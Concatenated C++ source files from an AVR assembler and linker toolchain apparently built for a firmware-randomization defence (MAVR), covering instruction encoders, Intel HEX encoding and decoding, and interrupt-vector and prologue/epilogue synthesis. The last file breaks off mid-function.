std::uint16_t enc_out(std::uint8_t io_addr, std::uint8_t rr) {
  MAVR_REQUIRE(io_addr < 64, "OUT address out of range");
  return static_cast<std::uint16_t>(with_d5(0xB800, rr) |
                                    ((io_addr & 0x30) << 5) | (io_addr & 0x0F));
}

std::uint16_t enc_sbi_cbi(Op op, std::uint8_t io_addr, std::uint8_t bit) {
  MAVR_REQUIRE(io_addr < 32 && bit < 8, "SBI/CBI operand out of range");
  const std::uint16_t base = (op == Op::Sbi) ? 0x9A00 : 0x9800;
  MAVR_REQUIRE(op == Op::Sbi || op == Op::Cbi, "not SBI/CBI");
  return static_cast<std::uint16_t>(base | (io_addr << 3) | bit);
}

std::uint16_t enc_push(std::uint8_t rr) {
  return static_cast<std::uint16_t>(with_d5(0x9200, rr) | 0x0F);
}

std::uint16_t enc_pop(std::uint8_t rd) {
  return static_cast<std::uint16_t>(with_d5(0x9000, rd) | 0x0F);
}

WordPair enc_lds(std::uint8_t rd, std::uint16_t addr) {
  return {with_d5(0x9000, rd), addr};
}

WordPair enc_sts(std::uint16_t addr, std::uint8_t rr) {
  return {with_d5(0x9200, rr), addr};
}

std::uint16_t enc_ldd(std::uint8_t rd, bool use_y, std::uint8_t q) {
  MAVR_REQUIRE(q < 64, "displacement out of range");
  return static_cast<std::uint16_t>(
      0x8000 | with_d5(0, rd) | (use_y ? 0x8 : 0) | ((q & 0x20) << 8) |
      ((q & 0x18) << 7) | (q & 0x07));
}

std::uint16_t enc_std(bool use_y, std::uint8_t q, std::uint8_t rr) {
  MAVR_REQUIRE(q < 64, "displacement out of range");
  return static_cast<std::uint16_t>(
      0x8200 | with_d5(0, rr) | (use_y ? 0x8 : 0) | ((q & 0x20) << 8) |
      ((q & 0x18) << 7) | (q & 0x07));
}

std::uint16_t enc_ld_st(Op op, std::uint8_t reg) {
  std::uint16_t base = 0;
  switch (op) {
    case Op::LdZInc: base = 0x9001; break;
    case Op::LdZDec: base = 0x9002; break;
    case Op::LdYInc: base = 0x9009; break;
    case Op::LdYDec: base = 0x900A; break;
    case Op::LdX: base = 0x900C; break;
    case Op::LdXInc: base = 0x900D; break;
    case Op::LdXDec: base = 0x900E; break;
    case Op::StZInc: base = 0x9201; break;
    case Op::StZDec: base = 0x9202; break;
    case Op::StYInc: base = 0x9209; break;
    case Op::StYDec: base = 0x920A; break;
    case Op::StX: base = 0x920C; break;
    case Op::StXInc: base = 0x920D; break;
    case Op::StXDec: base = 0x920E; break;
    default: MAVR_REQUIRE(false, "not an indirect load/store op");
  }
  return with_d5(base, reg);
}

std::uint16_t enc_lpm(Op op, std::uint8_t rd) {
  switch (op) {
    case Op::LpmR0: return 0x95C8;
    case Op::ElpmR0: return 0x95D8;
    case Op::Lpm: return static_cast<std::uint16_t>(with_d5(0x9000, rd) | 0x4);
    case Op::LpmInc:
      return static_cast<std::uint16_t>(with_d5(0x9000, rd) | 0x5);
    case Op::Elpm: return static_cast<std::uint16_t>(with_d5(0x9000, rd) | 0x6);
    case Op::ElpmInc:
      return static_cast<std::uint16_t>(with_d5(0x9000, rd) | 0x7);
    default: MAVR_REQUIRE(false, "not an LPM op");
  }
  return 0;
}

std::uint16_t enc_rel_jump(Op op, std::int32_t word_offset) {
  MAVR_REQUIRE(word_offset >= -2048 && word_offset <= 2047,
               "relative jump offset out of range");
  const std::uint16_t base = (op == Op::Rjmp) ? 0xC000 : 0xD000;
  MAVR_REQUIRE(op == Op::Rjmp || op == Op::Rcall, "not RJMP/RCALL");
  return static_cast<std::uint16_t>(base | (word_offset & 0x0FFF));
}

WordPair enc_abs_jump(Op op, std::uint32_t word_addr) {
  MAVR_REQUIRE(word_addr < (1u << 22), "absolute jump target out of range");
  const std::uint16_t base = (op == Op::Jmp) ? 0x940C : 0x940E;
  MAVR_REQUIRE(op == Op::Jmp || op == Op::Call, "not JMP/CALL");
  const std::uint32_t hi = word_addr >> 16;  // 6 bits
  const std::uint16_t first = static_cast<std::uint16_t>(
      base | ((hi & 0x3E) << 3) | (hi & 1));
  return {first, static_cast<std::uint16_t>(word_addr & 0xFFFF)};
}

std::uint16_t enc_branch(Op op, std::uint8_t sreg_bit,
                         std::int32_t word_offset) {
  MAVR_REQUIRE(word_offset >= -64 && word_offset <= 63,
               "branch offset out of range");
  MAVR_REQUIRE(sreg_bit < 8, "SREG bit out of range");
  const std::uint16_t base = (op == Op::Brbs) ? 0xF000 : 0xF400;
  MAVR_REQUIRE(op == Op::Brbs || op == Op::Brbc, "not BRBS/BRBC");
  return static_cast<std::uint16_t>(base | ((word_offset & 0x7F) << 3) |
                                    sreg_bit);
}

std::uint16_t enc_skip_reg(Op op, std::uint8_t reg, std::uint8_t bit) {
  MAVR_REQUIRE(bit < 8, "bit out of range");
  const std::uint16_t base = (op == Op::Sbrc) ? 0xFC00 : 0xFE00;
  MAVR_REQUIRE(op == Op::Sbrc || op == Op::Sbrs, "not SBRC/SBRS");
  return static_cast<std::uint16_t>(with_d5(base, reg) | bit);
}

std::uint16_t enc_skip_io(Op op, std::uint8_t io_addr, std::uint8_t bit) {
  MAVR_REQUIRE(io_addr < 32 && bit < 8, "SBIC/SBIS operand out of range");
  const std::uint16_t base = (op == Op::Sbic) ? 0x9900 : 0x9B00;
  MAVR_REQUIRE(op == Op::Sbic || op == Op::Sbis, "not SBIC/SBIS");
  return static_cast<std::uint16_t>(base | (io_addr << 3) | bit);
}

std::uint16_t enc_no_operand(Op op) {
  switch (op) {
    case Op::Nop: return 0x0000;
    case Op::Ijmp: return 0x9409;
    case Op::Eijmp: return 0x9419;
    case Op::Ret: return 0x9508;
    case Op::Icall: return 0x9509;
    case Op::Reti: return 0x9518;
    case Op::Eicall: return 0x9519;
    case Op::Sleep: return 0x9588;
    case Op::Break: return 0x9598;
    case Op::Wdr: return 0x95A8;
    case Op::Spm: return 0x95E8;
    default: MAVR_REQUIRE(false, "not a no-operand op");
  }
  return 0;
}

std::uint16_t enc_bset_bclr(Op op, std::uint8_t bit) {
  MAVR_REQUIRE(bit < 8, "SREG bit out of range");
  const std::uint16_t base = (op == Op::Bset) ? 0x9408 : 0x9488;
  MAVR_REQUIRE(op == Op::Bset || op == Op::Bclr, "not BSET/BCLR");
  return static_cast<std::uint16_t>(base | (bit << 4));
}

std::uint16_t enc_bst_bld(Op op, std::uint8_t rd, std::uint8_t bit) {
  MAVR_REQUIRE(bit < 8, "bit out of range");
  const std::uint16_t base = (op == Op::Bld) ? 0xF800 : 0xFA00;
  MAVR_REQUIRE(op == Op::Bld || op == Op::Bst, "not BST/BLD");
  return static_cast<std::uint16_t>(with_d5(base, rd) | bit);
}

WordPair retarget_abs_jump(std::uint16_t first, std::uint32_t word_addr) {
  MAVR_REQUIRE((first & 0xFE0C) == 0x940C, "not a JMP/CALL first word");
  const Op op = ((first & 0x000E) == 0x000C) ? Op::Jmp : Op::Call;
  return enc_abs_jump(op, word_addr);
}

std::uint16_t retarget_rel_jump(std::uint16_t word, std::int32_t word_offset) {
  MAVR_REQUIRE((word & 0xE000) == 0xC000, "not an RJMP/RCALL word");
  const Op op = (word & 0x1000) ? Op::Rcall : Op::Rjmp;
  return enc_rel_jump(op, word_offset);
}

}  // namespace mavr::toolchain
