// AVR machine-code encoders — the exact inverse of avr::decode().
//
// Used by the assembler to emit firmware and by the MAVR patcher to rewrite
// CALL/JMP targets while streaming the randomized binary to the application
// processor (paper §VI-B3).
#pragma once

#include <cstdint>
#include <utility>

#include "avr/instr.hpp"
#include "support/error.hpp"

namespace mavr::toolchain {

using WordPair = std::pair<std::uint16_t, std::uint16_t>;

// --- Two-register ALU (Rd, Rr in 0..31) -------------------------------------
std::uint16_t enc_two_reg(avr::Op op, std::uint8_t rd, std::uint8_t rr);

// --- Immediate ALU (Rd in 16..31, K in 0..255) -------------------------------
std::uint16_t enc_imm(avr::Op op, std::uint8_t rd, std::uint8_t k);

// --- One-register ALU --------------------------------------------------------
std::uint16_t enc_one_reg(avr::Op op, std::uint8_t rd);

/// MOVW (both register numbers must be even).
std::uint16_t enc_movw(std::uint8_t rd, std::uint8_t rr);

/// ADIW/SBIW (rd in {24,26,28,30}, k in 0..63).
std::uint16_t enc_adiw(avr::Op op, std::uint8_t rd, std::uint8_t k);

// --- I/O ----------------------------------------------------------------------
std::uint16_t enc_in(std::uint8_t rd, std::uint8_t io_addr);
std::uint16_t enc_out(std::uint8_t io_addr, std::uint8_t rr);
std::uint16_t enc_sbi_cbi(avr::Op op, std::uint8_t io_addr, std::uint8_t bit);

// --- Load/store ----------------------------------------------------------------
std::uint16_t enc_push(std::uint8_t rr);
std::uint16_t enc_pop(std::uint8_t rd);
WordPair enc_lds(std::uint8_t rd, std::uint16_t addr);
WordPair enc_sts(std::uint16_t addr, std::uint8_t rr);
/// LDD/STD with displacement q in 0..63 via Y or Z.
std::uint16_t enc_ldd(std::uint8_t rd, bool use_y, std::uint8_t q);
std::uint16_t enc_std(bool use_y, std::uint8_t q, std::uint8_t rr);
/// LD/ST through X/Y/Z with optional post-increment / pre-decrement.
std::uint16_t enc_ld_st(avr::Op op, std::uint8_t reg);
std::uint16_t enc_lpm(avr::Op op, std::uint8_t rd);

// --- Control flow ----------------------------------------------------------------
/// RJMP/RCALL with signed word offset in [-2048, 2047].
std::uint16_t enc_rel_jump(avr::Op op, std::int32_t word_offset);
/// JMP/CALL with absolute word address (22-bit).
WordPair enc_abs_jump(avr::Op op, std::uint32_t word_addr);
/// Conditional branch with signed word offset in [-64, 63].
std::uint16_t enc_branch(avr::Op op, std::uint8_t sreg_bit,
                         std::int32_t word_offset);
std::uint16_t enc_skip_reg(avr::Op op, std::uint8_t reg, std::uint8_t bit);
std::uint16_t enc_skip_io(avr::Op op, std::uint8_t io_addr, std::uint8_t bit);
std::uint16_t enc_no_operand(avr::Op op);
std::uint16_t enc_bset_bclr(avr::Op op, std::uint8_t bit);
std::uint16_t enc_bst_bld(avr::Op op, std::uint8_t rd, std::uint8_t bit);

/// Replaces the target of an existing 2-word JMP/CALL encoding — the core
/// patcher operation (paper §VI-B3). `first` must already encode JMP or
/// CALL; only the address bits change.
WordPair retarget_abs_jump(std::uint16_t first, std::uint32_t word_addr);

/// Replaces the offset of an existing RJMP/RCALL encoding.
std::uint16_t retarget_rel_jump(std::uint16_t word, std::int32_t word_offset);

}  // namespace mavr::toolchain
