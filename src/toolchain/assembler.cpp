#include "toolchain/assembler.hpp"

namespace mavr::toolchain {

std::uint32_t FunctionBuilder::fixed_offset_of(Label l) const {
  std::uint32_t off = 0;
  for (const item::Item& it : fn_.items) {
    if (const auto* b = std::get_if<item::Bind>(&it)) {
      if (b->label_id == l.id) return off;
      continue;
    }
    struct Sizer {
      std::uint32_t operator()(const item::Raw&) const { return 1; }
      std::uint32_t operator()(const item::JmpInto&) const { return 2; }
      std::uint32_t operator()(const item::LdsSts&) const { return 2; }
      std::uint32_t operator()(const item::LdiData&) const { return 1; }
      std::uint32_t operator()(const item::LdiLate&) const { return 1; }
      std::uint32_t operator()(const item::LdiPm&) const { return 1; }
      std::uint32_t operator()(const item::LocalBranch&) const { return 1; }
      std::uint32_t operator()(const item::LocalRjmp&) const { return 1; }
      std::uint32_t operator()(const item::Bind&) const { return 0; }
      std::uint32_t operator()(const item::CallSym&) const {
        throw support::PreconditionError(
            "fixed_offset_of: relaxable call before label");
      }
      std::uint32_t operator()(const item::Prologue&) const {
        throw support::PreconditionError(
            "fixed_offset_of: prologue pseudo before label");
      }
      std::uint32_t operator()(const item::Epilogue&) const {
        throw support::PreconditionError(
            "fixed_offset_of: epilogue pseudo before label");
      }
    };
    off += std::visit(Sizer{}, it);
  }
  throw support::PreconditionError("fixed_offset_of: label not bound");
}

}  // namespace mavr::toolchain
