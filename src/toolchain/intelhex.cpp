#include "toolchain/intelhex.hpp"

#include <cstdio>

#include "support/error.hpp"

namespace mavr::toolchain {

namespace {

void append_record(std::string& out, std::uint8_t type, std::uint16_t addr,
                   std::span<const std::uint8_t> payload) {
  char buf[16];
  std::snprintf(buf, sizeof buf, ":%02X%04X%02X",
                static_cast<unsigned>(payload.size()), addr, type);
  out += buf;
  std::uint8_t sum = static_cast<std::uint8_t>(payload.size()) +
                     static_cast<std::uint8_t>(addr >> 8) +
                     static_cast<std::uint8_t>(addr & 0xFF) + type;
  for (std::uint8_t b : payload) {
    std::snprintf(buf, sizeof buf, "%02X", b);
    out += buf;
    sum = static_cast<std::uint8_t>(sum + b);
  }
  std::snprintf(buf, sizeof buf, "%02X\n",
                static_cast<std::uint8_t>(0x100 - sum) & 0xFF);
  out += buf;
}

int hex_digit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  return -1;
}

}  // namespace

std::string intel_hex_encode(const support::Bytes& data, std::uint32_t base,
                             std::size_t record_len) {
  MAVR_REQUIRE(record_len >= 1 && record_len <= 255, "bad record length");
  std::string out;
  // Current extended linear address (bits 16..31); bank 0 needs no record.
  std::uint32_t high = 0;
  for (std::size_t pos = 0; pos < data.size();) {
    const std::uint32_t addr = base + static_cast<std::uint32_t>(pos);
    if ((addr >> 16) != high) {
      high = addr >> 16;
      const std::uint8_t ext[2] = {static_cast<std::uint8_t>(high >> 8),
                                   static_cast<std::uint8_t>(high & 0xFF)};
      append_record(out, 0x04, 0, ext);
    }
    // Do not let a record cross a 64 KiB boundary.
    std::size_t len = std::min(record_len, data.size() - pos);
    const std::uint32_t room = 0x10000 - (addr & 0xFFFF);
    len = std::min<std::size_t>(len, room);
    append_record(out, 0x00, static_cast<std::uint16_t>(addr & 0xFFFF),
                  std::span(data).subspan(pos, len));
    pos += len;
  }
  append_record(out, 0x01, 0, {});
  return out;
}

HexImage intel_hex_decode(const std::string& text) {
  HexImage image;
  bool base_set = false;
  std::uint32_t high = 0;
  std::size_t pos = 0;
  const auto need = [&](std::size_t n) {
    if (pos + n > text.size()) throw support::DataError("HEX truncated");
  };
  const auto byte = [&]() -> std::uint8_t {
    need(2);
    const int hi = hex_digit(text[pos]);
    const int lo = hex_digit(text[pos + 1]);
    if (hi < 0 || lo < 0) throw support::DataError("HEX bad digit");
    pos += 2;
    return static_cast<std::uint8_t>((hi << 4) | lo);
  };

  while (pos < text.size()) {
    if (text[pos] == '\n' || text[pos] == '\r' || text[pos] == ' ') {
      ++pos;
      continue;
    }
    if (text[pos] != ':') throw support::DataError("HEX missing ':'");
    ++pos;
    const std::uint8_t len = byte();
    const std::uint8_t addr_hi = byte();
    const std::uint8_t addr_lo = byte();
    const std::uint8_t type = byte();
    std::uint8_t sum = static_cast<std::uint8_t>(len + addr_hi + addr_lo + type);
    support::Bytes payload;
    payload.reserve(len);
    for (unsigned i = 0; i < len; ++i) {
      const std::uint8_t b = byte();
      payload.push_back(b);
      sum = static_cast<std::uint8_t>(sum + b);
    }
    const std::uint8_t checksum = byte();
    if (static_cast<std::uint8_t>(sum + checksum) != 0) {
      throw support::DataError("HEX checksum mismatch");
    }
    switch (type) {
      case 0x00: {
        const std::uint32_t addr =
            high + ((addr_hi << 8) | addr_lo);
        if (!base_set) {
          image.base = addr;
          base_set = true;
        }
        if (addr < image.base) throw support::DataError("HEX going backwards");
        const std::size_t offset = addr - image.base;
        if (image.data.size() < offset + payload.size()) {
          image.data.resize(offset + payload.size(), 0xFF);
        }
        std::copy(payload.begin(), payload.end(),
                  image.data.begin() + static_cast<std::ptrdiff_t>(offset));
        break;
      }
      case 0x01:
        return image;
      case 0x02:
        if (payload.size() != 2) throw support::DataError("bad type-02 record");
        high = (static_cast<std::uint32_t>(payload[0]) << 12) |
               (static_cast<std::uint32_t>(payload[1]) << 4);
        break;
      case 0x04:
        if (payload.size() != 2) throw support::DataError("bad type-04 record");
        high = (static_cast<std::uint32_t>(payload[0]) << 24) |
               (static_cast<std::uint32_t>(payload[1]) << 16);
        break;
      case 0x03:
      case 0x05:
        break;  // start-address records: ignored
      default:
        throw support::DataError("unknown HEX record type");
    }
  }
  throw support::DataError("HEX missing EOF record");
}

}  // namespace mavr::toolchain
