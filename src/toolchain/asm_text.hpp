// Text-mode AVR assembler front-end.
//
// Parses one function's worth of GNU-style assembly into an AsmFunction
// for the linker. Supports the instruction surface of the simulator,
// function-local labels, symbolic CALL/JMP targets and symbolic data
// addresses. Used by tests and by downstream users who prefer `.s` text
// over the programmatic FunctionBuilder.
//
// Syntax, one statement per line:
//
//   loop:                    ; label definition
//     ldi   r24, 0x2A        ; immediates in decimal or 0x-hex
//     sts   @g_state+1, r24  ; '@name[+off]' = data-symbol address
//     lds   r25, 0x0120      ; bare number   = absolute data address
//     std   Y+3, r24         ; displacement addressing
//     ld    r20, X+          ; indirect with post-increment
//     out   0x3e, r29
//     brne  loop             ; branches take local labels
//     call  other_function   ; call/jmp take global symbols
//     ret
//
// Comments start with ';' or '//'. Throws support::DataError with a line
// number on any parse error.
#pragma once

#include <string>
#include <string_view>

#include "toolchain/assembler.hpp"

namespace mavr::toolchain {

/// Parses `source` into a relocatable function named `name`.
AsmFunction parse_asm_function(const std::string& name,
                               std::string_view source);

}  // namespace mavr::toolchain
