#include "toolchain/linker.hpp"

#include <algorithm>
#include <unordered_map>

#include "avr/instr.hpp"
#include "support/error.hpp"

namespace mavr::toolchain {

namespace {

using avr::Op;
using item::Item;

/// Callee-saved registers in the canonical -mcall-prologues order.
const std::vector<std::uint8_t>& canonical_saves() {
  static const std::vector<std::uint8_t> regs = [] {
    std::vector<std::uint8_t> r;
    for (std::uint8_t i = 2; i <= 17; ++i) r.push_back(i);
    r.push_back(28);
    r.push_back(29);
    return r;
  }();
  return regs;
}

struct LoweredFn {
  std::string name;
  std::vector<Item> items;
  std::vector<std::uint8_t> call_short;  ///< parallel; 1 = relaxed short form
  bool movable = true;
  std::uint32_t word_addr = 0;
  std::uint32_t word_size = 0;
  std::unordered_map<int, std::uint32_t> label_offsets;
  int synth_label = 1'000'000;  ///< label ids for linker-synthesized items
};

class Linker {
 public:
  explicit Linker(LinkInput input) : in_(std::move(input)) {}

  Image run() {
    synthesize();
    lower_all();
    assign_ram();
    layout();
    return emit();
  }

 private:
  // --- Synthesis -----------------------------------------------------------
  void synthesize() {
    MAVR_REQUIRE(std::any_of(in_.functions.begin(), in_.functions.end(),
                             [&](const AsmFunction& f) {
                               return f.name == in_.entry;
                             }),
                 "entry symbol not defined: " + in_.entry);

    // Interrupt vector table, pinned at flash address 0.
    {
      std::vector<std::string> handlers(kVectorSlots, "__bad_interrupt");
      handlers[0] = "__init";  // reset vector
      for (const auto& [slot, sym] : in_.vectors) {
        MAVR_REQUIRE(slot >= 1 && slot < kVectorSlots,
                     "vector slot out of range");
        handlers[slot] = sym;
      }
      FunctionBuilder fb("__vectors");
      for (const std::string& handler : handlers) fb.jmp_into(handler, 0);
      AsmFunction f = fb.take();
      f.movable = false;
      synthesized_.push_back(std::move(f));
    }

    // Startup: SP, zero reg, .data copy, call main.
    {
      FunctionBuilder fb("__init");
      fb.eor(1, 1);  // r1 is the ABI zero register
      fb.ldi_late(28, LateImm::RamEndLo);
      fb.out(avr::kIoSpl, 28);
      fb.ldi_late(29, LateImm::RamEndHi);
      fb.out(avr::kIoSph, 29);
      // Z:RAMPZ <- flash byte address of .data initializers.
      fb.ldi_late(30, LateImm::DataInitLo);
      fb.ldi_late(31, LateImm::DataInitMid);
      fb.ldi_late(24, LateImm::DataInitHi);
      fb.out(avr::kIoRampz, 24);
      // X <- RAM destination, r25:r24 <- byte count.
      fb.ldi_late(26, LateImm::RamBaseLo);
      fb.ldi_late(27, LateImm::RamBaseHi);
      fb.ldi_late(24, LateImm::DataCountLo);
      fb.ldi_late(25, LateImm::DataCountHi);
      Label loop = fb.make_label();
      Label done = fb.make_label();
      fb.bind(loop);
      fb.cp(24, 1);
      fb.cpc(25, 1);
      fb.breq(done);
      fb.elpm_inc(0);
      fb.st_x_inc(0);
      fb.sbiw(24, 1);
      fb.rjmp(loop);
      fb.bind(done);
      fb.call(in_.entry);
      fb.break_();  // halts the simulated core if main ever returns
      synthesized_.push_back(fb.take());
    }

    // Default interrupt handler: spin (a hung board, which the master's
    // feed-line watchdog will catch).
    {
      FunctionBuilder fb("__bad_interrupt");
      Label self = fb.make_label();
      fb.bind(self);
      fb.rjmp(self);
      synthesized_.push_back(fb.take());
    }

    if (in_.options.call_prologues) {
      // Shared register-save blob: push all callee-saved registers, carve
      // the frame (size passed in X), resume at the EIND:Z continuation.
      FunctionBuilder fb("__prologue_saves__");
      for (std::uint8_t r : canonical_saves()) fb.push(r);
      fb.in(28, avr::kIoSpl);
      fb.in(29, avr::kIoSph);
      fb.sub(28, 26);
      fb.sbc(29, 27);
      fb.in(0, avr::kIoSreg);
      fb.out(avr::kIoSph, 29);
      fb.out(avr::kIoSreg, 0);
      fb.out(avr::kIoSpl, 28);
      fb.raw(enc_no_operand(Op::Eijmp));
      synthesized_.push_back(fb.take());

      // Shared restore blob — the "very useful gadget" concentration the
      // paper warns about (§VI-B1).
      FunctionBuilder fe("__epilogue_restores__");
      auto saves = canonical_saves();
      for (auto it = saves.rbegin(); it != saves.rend(); ++it) fe.pop(*it);
      fe.ret();
      synthesized_.push_back(fe.take());
    }

    // Final layout order: vectors, user functions, then synthesized
    // runtime support (so the runtime sits at the end like libgcc does).
    ordered_.push_back(&synthesized_[0]);  // __vectors
    for (AsmFunction& f : in_.functions) ordered_.push_back(&f);
    for (std::size_t i = 1; i < synthesized_.size(); ++i) {
      ordered_.push_back(&synthesized_[i]);
    }
  }

  // --- Lowering -------------------------------------------------------------
  void lower_all() {
    fns_.reserve(ordered_.size());
    for (AsmFunction* src : ordered_) {
      LoweredFn fn;
      fn.name = src->name;
      fn.movable = src->movable;
      for (Item& it : src->items) lower_item(fn, std::move(it));
      fn.call_short.assign(fn.items.size(), 0);
      MAVR_REQUIRE(!fn_index_.contains(fn.name),
                   "duplicate function symbol: " + fn.name);
      fn_index_.emplace(fn.name, fns_.size());
      fns_.push_back(std::move(fn));
    }
  }

  void lower_item(LoweredFn& fn, Item it) {
    if (auto* p = std::get_if<item::Prologue>(&it)) {
      lower_prologue(fn, *p);
    } else if (auto* e = std::get_if<item::Epilogue>(&it)) {
      lower_epilogue(fn, *e);
    } else {
      fn.items.push_back(std::move(it));
    }
  }

  bool uses_blob(const item::Prologue& p) const {
    return in_.options.call_prologues && p.frame_bytes > 0 &&
           p.save_regs == canonical_saves();
  }

  void lower_prologue(LoweredFn& fn, const item::Prologue& p) {
    if (p.frame_bytes > 0) {
      MAVR_REQUIRE(std::count(p.save_regs.begin(), p.save_regs.end(), 28) &&
                       std::count(p.save_regs.begin(), p.save_regs.end(), 29),
                   "framed function must save r28/r29");
    }
    auto raw = [&](std::uint16_t w) { fn.items.push_back(item::Raw{w}); };
    if (uses_blob(p)) {
      // ldi X = frame size; EIND:Z = continuation; jmp into the blob.
      raw(enc_imm(Op::Ldi, 26, static_cast<std::uint8_t>(p.frame_bytes)));
      raw(enc_imm(Op::Ldi, 27,
                  static_cast<std::uint8_t>(p.frame_bytes >> 8)));
      const int cont = fn.synth_label++;
      fn.items.push_back(item::LdiPm{30, cont, 0});
      fn.items.push_back(item::LdiPm{31, cont, 1});
      fn.items.push_back(item::LdiPm{24, cont, 2});
      raw(enc_out(avr::kIoEind, 24));
      fn.items.push_back(item::JmpInto{"__prologue_saves__", 0, false});
      fn.items.push_back(item::Bind{cont});
      return;
    }
    for (std::uint8_t r : p.save_regs) raw(enc_push(r));
    if (p.frame_bytes > 0) {
      raw(enc_in(28, avr::kIoSpl));
      raw(enc_in(29, avr::kIoSph));
      if (p.frame_bytes <= 63) {
        raw(enc_adiw(Op::Sbiw, 28, static_cast<std::uint8_t>(p.frame_bytes)));
      } else {
        raw(enc_imm(Op::Subi, 28, static_cast<std::uint8_t>(p.frame_bytes)));
        raw(enc_imm(Op::Sbci, 29,
                    static_cast<std::uint8_t>(p.frame_bytes >> 8)));
      }
      raw(enc_in(0, avr::kIoSreg));
      raw(enc_out(avr::kIoSph, 29));
      raw(enc_out(avr::kIoSreg, 0));
      raw(enc_out(avr::kIoSpl, 28));
    }
  }

  void lower_epilogue(LoweredFn& fn, const item::Epilogue& e) {
    auto raw = [&](std::uint16_t w) { fn.items.push_back(item::Raw{w}); };
    if (e.frame_bytes > 0) {
      // Frame teardown — this is the paper's stk_move gadget (Fig. 4):
      // out SPH / out SREG / out SPL followed by pops and ret.
      if (e.frame_bytes <= 63) {
        raw(enc_adiw(Op::Adiw, 28, static_cast<std::uint8_t>(e.frame_bytes)));
      } else {
        const std::uint16_t neg = static_cast<std::uint16_t>(-e.frame_bytes);
        raw(enc_imm(Op::Subi, 28, static_cast<std::uint8_t>(neg)));
        raw(enc_imm(Op::Sbci, 29, static_cast<std::uint8_t>(neg >> 8)));
      }
      raw(enc_in(0, avr::kIoSreg));
      raw(enc_out(avr::kIoSph, 29));
      raw(enc_out(avr::kIoSreg, 0));
      raw(enc_out(avr::kIoSpl, 28));
    }
    if (in_.options.call_prologues && e.frame_bytes > 0 &&
        e.save_regs == canonical_saves()) {
      fn.items.push_back(item::JmpInto{"__epilogue_restores__", 0, false});
      return;  // the blob pops and rets
    }
    for (auto it = e.save_regs.rbegin(); it != e.save_regs.rend(); ++it) {
      raw(enc_pop(*it));
    }
    raw(enc_no_operand(Op::Ret));
  }

  // --- RAM layout -------------------------------------------------------------
  void assign_ram() {
    std::uint32_t cursor = in_.mcu->sram_base;
    for (const data::Entry& entry : in_.data) {
      MAVR_REQUIRE(!ram_index_.contains(entry.name),
                   "duplicate data symbol: " + entry.name);
      ram_index_.emplace(entry.name, static_cast<std::uint16_t>(cursor));
      cursor += static_cast<std::uint32_t>((entry.init.size() + 1) & ~1ull);
    }
    MAVR_REQUIRE(cursor + 1024 <= in_.mcu->ramend(),
                 "data section leaves no room for the stack");
  }

  std::uint16_t ram_addr(const std::string& sym, std::uint16_t offset) const {
    auto it = ram_index_.find(sym);
    MAVR_REQUIRE(it != ram_index_.end(), "undefined data symbol: " + sym);
    return static_cast<std::uint16_t>(it->second + offset);
  }

  // --- Code layout and relaxation ---------------------------------------------
  static std::uint32_t item_words(const Item& it, bool call_is_short) {
    struct Sizer {
      bool short_call;
      std::uint32_t operator()(const item::Raw&) const { return 1; }
      std::uint32_t operator()(const item::CallSym&) const {
        return short_call ? 1 : 2;
      }
      std::uint32_t operator()(const item::JmpInto&) const { return 2; }
      std::uint32_t operator()(const item::LdsSts&) const { return 2; }
      std::uint32_t operator()(const item::LdiData&) const { return 1; }
      std::uint32_t operator()(const item::LdiPm&) const { return 1; }
      std::uint32_t operator()(const item::LdiLate&) const { return 1; }
      std::uint32_t operator()(const item::LocalBranch&) const { return 1; }
      std::uint32_t operator()(const item::LocalRjmp&) const { return 1; }
      std::uint32_t operator()(const item::Bind&) const { return 0; }
      std::uint32_t operator()(const item::Prologue&) const {
        throw support::InvariantError("prologue survived lowering");
      }
      std::uint32_t operator()(const item::Epilogue&) const {
        throw support::InvariantError("epilogue survived lowering");
      }
    };
    return std::visit(Sizer{call_is_short}, it);
  }

  const LoweredFn& fn_named(const std::string& name) const {
    auto it = fn_index_.find(name);
    MAVR_REQUIRE(it != fn_index_.end(), "undefined symbol: " + name);
    return fns_[it->second];
  }

  void layout() {
    for (int iteration = 0; iteration < 16; ++iteration) {
      std::uint32_t cursor = 0;
      for (LoweredFn& fn : fns_) {
        if (in_.options.align_functions) cursor = (cursor + 1) & ~1u;
        fn.word_addr = cursor;
        std::uint32_t off = 0;
        for (std::size_t i = 0; i < fn.items.size(); ++i) {
          if (const auto* b = std::get_if<item::Bind>(&fn.items[i])) {
            fn.label_offsets[b->label_id] = off;
          } else {
            off += item_words(fn.items[i], fn.call_short[i] != 0);
          }
        }
        fn.word_size = off;
        cursor += off;
      }
      text_words_ = cursor;

      bool changed = false;
      if (in_.options.relax) {
        for (LoweredFn& fn : fns_) {
          std::uint32_t off = 0;
          for (std::size_t i = 0; i < fn.items.size(); ++i) {
            if (const auto* c = std::get_if<item::CallSym>(&fn.items[i])) {
              const std::uint32_t site = fn.word_addr + off;
              const std::int64_t dist =
                  static_cast<std::int64_t>(fn_named(c->sym).word_addr) -
                  static_cast<std::int64_t>(site + 1);
              const bool fits = dist >= -2048 && dist <= 2047;
              if (fits != (fn.call_short[i] != 0)) {
                fn.call_short[i] = fits ? 1 : 0;
                changed = true;
              }
            }
            if (!std::holds_alternative<item::Bind>(fn.items[i])) {
              off += item_words(fn.items[i], fn.call_short[i] != 0);
            }
          }
        }
      }
      if (!changed) return;
    }
    throw support::InvariantError("relaxation did not converge");
  }

  // --- Emission ----------------------------------------------------------------
  std::uint8_t late_value(LateImm which) const {
    const std::uint32_t init = text_words_ * 2 + in_.reserve_padding_bytes;
    const std::uint32_t count = data_bytes_;
    const std::uint32_t ram = in_.mcu->sram_base;
    const std::uint32_t ramend = in_.mcu->ramend();
    switch (which) {
      case LateImm::DataInitLo: return static_cast<std::uint8_t>(init);
      case LateImm::DataInitMid: return static_cast<std::uint8_t>(init >> 8);
      case LateImm::DataInitHi: return static_cast<std::uint8_t>(init >> 16);
      case LateImm::DataCountLo: return static_cast<std::uint8_t>(count);
      case LateImm::DataCountHi: return static_cast<std::uint8_t>(count >> 8);
      case LateImm::RamBaseLo: return static_cast<std::uint8_t>(ram);
      case LateImm::RamBaseHi: return static_cast<std::uint8_t>(ram >> 8);
      case LateImm::RamEndLo: return static_cast<std::uint8_t>(ramend);
      case LateImm::RamEndHi: return static_cast<std::uint8_t>(ramend >> 8);
    }
    return 0;
  }

  Image emit() {
    // Total .data size must be known before emitting __init's LDIs.
    data_bytes_ = 0;
    for (const data::Entry& e : in_.data) {
